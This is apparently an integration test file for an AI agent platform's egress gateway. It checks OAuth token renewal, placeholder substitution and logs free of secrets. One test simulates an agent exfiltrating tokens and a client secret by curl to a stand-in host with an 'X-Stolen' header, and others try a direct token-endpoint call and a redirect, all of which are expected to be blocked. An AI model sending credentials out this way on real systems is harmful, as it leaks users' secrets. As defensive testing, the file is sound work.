// Access tokens that end, from inside a real agent's network: the platform renews them, the agent never
// has anything to do with it, and a token that has ended is not sent.

import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { promisify } from 'node:util';

import { makeAuthority } from '../fakes/authority.mjs';
import { answerJson, createServer, describe, listen, Record } from '../fakes/listening.mjs';
import { startOAuthServer } from '../fakes/oauth_server.mjs';
import { caBundle, Customer, Platform, sleep, until, whole } from './harness.mjs';

const run = promisify(execFile);
const OLD = 'ya29.old-access-token-0123456789abcdef';
const FIRST_REFRESH = '1//first-refresh-token-0123456789';
const CLIENT_SECRET = 'the-client-secret-0123456789';
const PAST = '2020-01-01T00:00:00Z';
const platform = new Platform();
let customer, authority, gmail, tokens, elsewhere, agent, placeholder, pid, bundle;

// A mail service that shows whom it took the caller for, in its body and a header.
async function startMailServer(options) {
  const record = new Record();
  const web = createServer({ authority, names: ['gmail.googleapis.com'] }, (request, response) => {
    record.add(describe(request, ''));
    const caller = request.headers.authorization ?? '';
    answerJson(response, 200, { caller }, { 'x-caller': caller });
  });
  return { record, ...(await listen(web, options)) };
}

async function within(command, ...args) {
  try {
    const { stdout, stderr } = await run('nsenter', ['-t', String(pid), '-n', command, ...args],
      { timeout: 60_000, maxBuffer: 64 << 20 });
    return { code: 0, out: stdout, err: stderr };
  } catch (error) {
    return { code: error.code ?? 1, out: error.stdout ?? '', err: error.stderr ?? '' };
  }
}

const PROXY = ['-x', 'http://10.232.0.1:3128'];
const curl = (...args) => within('curl', '-sS', '-m', '30', '--cacert', bundle, '-w', '\n%{http_code}', ...PROXY, ...args);
const status = (answer) => answer.out.trimEnd().split('\n').at(-1);
const body = (answer) => answer.out.slice(0, answer.out.trimEnd().lastIndexOf('\n'));
const MAIL = 'https://gmail.googleapis.com/gmail/v1/users/me/messages';
const read = () => curl(MAIL, '-H', `Authorization: Bearer ${placeholder}`);
const arrived = () => gmail.record.entries.map((request) => request.headers.authorization);

// Puts another grant in the customer's credential, as the customer would; egress knows it afterwards.
async function give(grant) {
  gmail.record.clear();
  tokens.record.clear();
  await customer.must(200, 'PUT', `/api/agents/${agent}/credentials/mail`, grant);
  await sleep(1000);
}
const oauth = (refreshToken = FIRST_REFRESH) => ({ refreshToken, clientId: 'the-client', clientSecret: CLIENT_SECRET });

async function audit(match, seconds = 10) {
  return until('audit record', async () => {
    const log = await customer.must(200, 'GET', `/api/agents/${agent}/logs?limit=200`);
    return whole(log.items).find(match);
  }, seconds);
}

before(async () => {
  authority = makeAuthority(fs.mkdtempSync('/tmp/deployclaw-oauth-test-'));
  fs.chmodSync(authority.dir, 0o755);
  fs.chmodSync(authority.certFile, 0o644);
  tokens = await startOAuthServer({ authority, names: ['oauth2.googleapis.com'], host: '127.0.0.4', port: 443,
    refreshToken: FIRST_REFRESH, clientId: 'the-client', clientSecret: CLIENT_SECRET });
  gmail = await startMailServer({ host: '127.0.0.5', port: 443 });
  // Where a redirect would lead: a token endpoint that gives to everybody.
  elsewhere = await startOAuthServer({ authority, names: ['elsewhere.example.com'], host: '127.0.0.6', port: 443,
    refreshToken: FIRST_REFRESH, clientId: 'the-client', clientSecret: CLIENT_SECRET });
  await platform.start([
    'egress.hosts=oauth2.googleapis.com=127.0.0.4,gmail.googleapis.com=127.0.0.5,elsewhere.example.com=127.0.0.6',
    `egress.extra_roots=${authority.certFile}`, 'egress.nameservers=127.0.0.1:5399']);
  customer = await new Customer(platform).join();
  agent = await customer.deploy('mailer', {}, {
    permissions: { scopes: ['email:read', 'api:outbound'], allowedDomains: ['oauth2.googleapis.com', 'elsewhere.example.com'] },
    credentials: [{ name: 'mail', kind: 'gmail', value: OLD, expiresAt: PAST, oauth: oauth() }] });
  assert.equal((await customer.verdict(agent)).deployment.state, 'live');
  const container = await platform.containerOf(agent);
  pid = container.State.Pid;
  bundle = caBundle(container);
  placeholder = platform.sql(`SELECT placeholder FROM agent_credentials WHERE agent_id = '${agent}'`);
});

after(async () => {
  if (agent) await customer.remove(agent);
  assert.equal(await platform.stop(), 0);
  await gmail?.close();
  await tokens?.close();
  await elsewhere?.close();
});

test('an expired token is renewed, and the request arrives with the new one', async () => {
  const answer = await read();
  assert.equal(status(answer), '200', answer.out + answer.err);
  assert.deepEqual(arrived(), [`Bearer ${tokens.issued[0]}`]);
  assert.equal(tokens.record.entries.length, 1);
  assert.equal(tokens.record.entries[0].form.refresh_token, FIRST_REFRESH);
  assert.equal(status(await read()), '200');
  assert.equal(tokens.record.entries.length, 1, 'the new one is good for an hour');
  const told = await audit((e) => e.actionType === 'token_renewed' && e.outcome === 'success');
  assert.equal(told.target, 'oauth2.googleapis.com');
  assert.equal(told.metadata.credential, 'mail');
  assert.equal(told.metadata.status, 200);
  const listed = await customer.must(200, 'GET', `/api/agents/${agent}/credentials`);
  assert.equal(listed.items[0].renews, true);
  assert.ok(Date.parse(listed.items[0].expiresAt) > Date.now() + 3000_000);
});

test('a renewed token that the service echoes comes back as the placeholder', async () => {
  // The control: asked without the gateway, the very same server does show what it got.
  const direct = await run('curl', ['-sS', '--cacert', authority.certFile, '--resolve', 'gmail.googleapis.com:443:127.0.0.5',
    MAIL, '-H', `Authorization: Bearer ${tokens.issued[0]}`]);
  assert.ok(direct.stdout.includes(tokens.issued[0]), direct.stdout);
  const answer = await curl(`${MAIL}?pageToken=x`, '-D', '-', '-H', `Authorization: Bearer ${placeholder}`);
  assert.equal(status(answer), '200', answer.out);
  assert.ok(answer.out.includes('"caller":"Bearer ya29.'), answer.out);
  for (const secret of [...tokens.issued, OLD, FIRST_REFRESH, CLIENT_SECRET]) {
    assert.equal(answer.out.includes(secret), false, secret);
  }
});

test('tokens, refresh token and client secret do not leave by the agent', async () => {
  gmail.record.clear();
  elsewhere.record.clear();
  for (const secret of [tokens.issued.at(-1), OLD, FIRST_REFRESH, CLIENT_SECRET]) {
    const answer = await curl('https://elsewhere.example.com/', '-H', `X-Stolen: ${secret}`);
    assert.equal(status(answer), '403', `${secret}: ${answer.out}`);
    assert.match(body(answer), /secret_in_request/);
  }
  assert.equal(elsewhere.record.entries.length, 0);
});

test('the agent itself does not reach the token endpoint, whatever its allowed domains say', async () => {
  const before = tokens.record.entries.length;
  const answer = await curl('-d', 'grant_type=refresh_token', 'https://oauth2.googleapis.com/token');
  assert.notEqual(answer.code, 0);
  assert.match(answer.err, /403/);
  assert.equal(tokens.record.entries.length, before);
  // The control: another allowed domain.
  assert.equal(status(await curl('https://elsewhere.example.com/')), '401');
});

test('a rotated refresh token outlives a restart of egress', async () => {
  tokens.behaviour.rotate = true;
  await give({ value: OLD, expiresAt: PAST, oauth: oauth() });
  assert.equal(status(await read()), '200');
  const rotated = tokens.refreshToken;
  assert.notEqual(rotated, FIRST_REFRESH);
  const egress = platform.pid('egress');
  process.kill(egress, 'SIGKILL');
  await until('egress is back', () => platform.pid('egress') && platform.pid('egress') !== egress, 30);
  await until('it serves', async () => status(await read()) === '200', 30);
  platform.sql(`UPDATE agent_credentials SET expires_at = now() WHERE agent_id = '${agent}'`);
  await sleep(1000);
  tokens.record.clear();
  gmail.record.clear();
  assert.equal(status(await read()), '200');
  assert.equal(tokens.record.entries[0].form.refresh_token, rotated);
  assert.deepEqual(arrived(), [`Bearer ${tokens.issued.at(-1)}`]);
  tokens.behaviour.rotate = false;
});

test('after a refusal for good nothing is sent with the old token, and it is not asked again and again', async () => {
  tokens.behaviour.refuse = 'invalid_grant';
  await give({ value: OLD, expiresAt: PAST, oauth: oauth() });
  for (let i = 0; i < 3; ++i) {
    const answer = await read();
    assert.equal(status(answer), '403', answer.out);
    const problem = JSON.parse(body(answer));
    assert.equal(problem.code, 'credential_expired');
    assert.equal(problem.credential, 'mail');
    assert.equal(problem.cause, 'invalid_grant');
  }
  assert.deepEqual(arrived(), []);
  assert.equal(tokens.record.entries.length, 1);
  await audit((e) => e.actionType === 'token_renewed' && e.outcome === 'failure' && e.metadata.reason === 'invalid_grant');
  delete tokens.behaviour.refuse;
  // The control: with a grant that is good the same request goes through.
  tokens.refreshToken = FIRST_REFRESH;
  await give({ value: OLD, expiresAt: PAST, oauth: oauth() });
  assert.equal(status(await read()), '200');
  assert.deepEqual(arrived(), [`Bearer ${tokens.issued.at(-1)}`]);
});

test('a redirect of the token endpoint is not followed', async () => {
  tokens.behaviour.redirect = 'https://elsewhere.example.com/token';
  elsewhere.record.clear();
  await give({ value: OLD, expiresAt: PAST, oauth: oauth() });
  const answer = await read();
  assert.equal(status(answer), '503', answer.out);
  assert.equal(JSON.parse(body(answer)).cause, 'redirected');
  assert.deepEqual(arrived(), []);
  assert.equal(elsewhere.record.entries.length, 0);
  delete tokens.behaviour.redirect;
});

test('no token, refresh token or client secret is anywhere that an agent or a reader of logs could look', async () => {
  const secrets = [...tokens.issued, OLD, FIRST_REFRESH, CLIENT_SECRET, tokens.refreshToken];
  const places = fs.readdirSync(path.join(platform.home, 'log')).map((name) => path.join(platform.home, 'log', name));
  places.push(...fs.readdirSync(path.join(platform.home, 'egress/spool')).map((name) => path.join(platform.home, 'egress/spool', name)));
  for (const place of places) {
    const text = fs.readFileSync(place, 'latin1');
    for (const secret of secrets) assert.equal(text.includes(secret), false, `${place}: ${secret}`);
  }
  const rows = platform.sql('SELECT coalesce(string_agg(a::text, \'\'), \'\') FROM audit_logs a')
    + platform.sql('SELECT string_agg(c::text, \'\') FROM agent_credentials c');
  for (const secret of secrets) assert.equal(rows.includes(secret), false, secret);
  assert.equal(JSON.stringify(await platform.containerOf(agent)).includes(OLD), false);
});
